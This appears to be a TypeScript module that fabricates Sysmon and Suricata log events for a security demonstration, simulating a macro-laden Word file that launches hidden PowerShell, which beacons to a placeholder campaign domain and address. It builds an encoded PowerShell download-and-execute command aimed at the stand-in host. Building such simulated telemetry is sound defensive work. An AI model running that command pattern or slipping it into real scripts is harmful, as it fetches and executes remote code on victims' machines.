import type { Agency } from '../agencies.ts'
import type { Random } from '../random.ts'
import { eveTime } from './background.ts'

/** What the campaign is known by: a domain and an address kept for documentation, and the digest of a file that never was. */
export const CAMPAIGN_DOMAIN = 'cap-nhat-van-ban.example'
export const CAMPAIGN_ADDRESS = '203.0.113.66'
export const CAMPAIGN_HASH = '5f0c6a27b1d94e38c2a7f61e0d4b9835c7e1f2a4d6b80913ce57a2f4b6d8e019'

/** Indicators the demonstration imports, as a plain list. */
export const CAMPAIGN_INDICATORS = `# Indicators of the demonstration\n${CAMPAIGN_DOMAIN}\n${CAMPAIGN_ADDRESS}\n${CAMPAIGN_HASH}\n`

const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('https://cap-nhat-van-ban.example/vb')",
  'utf16le',
).toString('base64')

/**
 * What one agency sees when the campaign reaches it: a document opens PowerShell, PowerShell asks for the campaign's domain and
 * talks to its address. Windows events first, then what the network sensor saw.
 */
export function campaignEvents(agency: Agency, random: Random, at: number): { windows: object[]; suricata: object[] } {
  const computer = `${agency.hostPrefix}-PC${String(1 + random.integer(30)).padStart(2, '0')}`
  const host = `${agency.prefix}.${20 + random.integer(60)}`
  const system = (eventId: number, offset: number): object => ({
    Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
    EventID: eventId,
    TimeCreated: { '#attributes': { SystemTime: new Date(at + offset).toISOString() } },
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: computer,
    EventRecordID: random.integer(2 ** 31),
  })
  const user = `${agency.hostPrefix}\\van.thu`
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
  const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
  const windows = [
    {
      Event: {
        System: system(1, 0),
        EventData: {
          ProcessId: 4100,
          Image: powershell,
          CommandLine: `powershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED}`,
          User: user,
          ParentImage: word,
          ParentCommandLine: `"${word}" "C:\\Users\\van.thu\\Downloads\\Giay moi hop.docm"`,
          Hashes: `SHA256=${CAMPAIGN_HASH.toUpperCase()}`,
          IntegrityLevel: 'Medium',
        },
      },
    },
    {
      Event: {
        System: system(22, 2000),
        EventData: {
          ProcessId: 4100,
          Image: powershell,
          QueryName: CAMPAIGN_DOMAIN,
          QueryStatus: '0',
          QueryResults: `::ffff:${CAMPAIGN_ADDRESS};`,
          User: user,
        },
      },
    },
  ]
  const common = { in_iface: 'eth1', src_ip: host, src_port: 51_000 + random.integer(9000), proto: 'TCP' }
  const suricata: object[] = [
    {
      timestamp: eveTime(at + 1500),
      flow_id: random.integer(2 ** 31),
      event_type: 'dns',
      in_iface: 'eth1',
      src_ip: host,
      src_port: 53_100,
      dest_ip: `${agency.prefix}.2`,
      dest_port: 53,
      proto: 'UDP',
      dns: { version: 2, type: 'query', id: random.integer(65_536), rrname: CAMPAIGN_DOMAIN, rrtype: 'A', tx_id: 0 },
    },
    {
      timestamp: eveTime(at + 2500),
      flow_id: random.integer(2 ** 31),
      event_type: 'tls',
      ...common,
      dest_ip: CAMPAIGN_ADDRESS,
      dest_port: 443,
      tls: { sni: CAMPAIGN_DOMAIN, version: 'TLS 1.2', subject: `CN=${CAMPAIGN_DOMAIN}` },
    },
  ]
  // The file itself, as the sensor saw it come in: what ties the name and the digest together.
  suricata.push({
    timestamp: eveTime(at + 1200),
    flow_id: random.integer(2 ** 31),
    event_type: 'fileinfo',
    in_iface: 'eth1',
    src_ip: CAMPAIGN_ADDRESS,
    src_port: 80,
    dest_ip: host,
    dest_port: 50_900,
    proto: 'TCP',
    app_proto: 'http',
    http: { hostname: CAMPAIGN_DOMAIN, url: '/vb', http_method: 'GET', status: 200 },
    fileinfo: { filename: '/vb', sha256: CAMPAIGN_HASH, state: 'CLOSED', size: 48_128, stored: false },
  })
  for (let beat = 0; beat < 3; beat++) {
    suricata.push({
      timestamp: eveTime(at + 5000 + beat * 3000),
      flow_id: random.integer(2 ** 31),
      event_type: 'flow',
      ...common,
      dest_ip: CAMPAIGN_ADDRESS,
      dest_port: 443,
      app_proto: 'tls',
      flow: {
        pkts_toserver: 6,
        pkts_toclient: 5,
        bytes_toserver: 812,
        bytes_toclient: 640,
        start: eveTime(at + 4900 + beat * 3000),
        end: eveTime(at + 5000 + beat * 3000),
        state: 'closed',
      },
    })
  }
  return { windows, suricata }
}
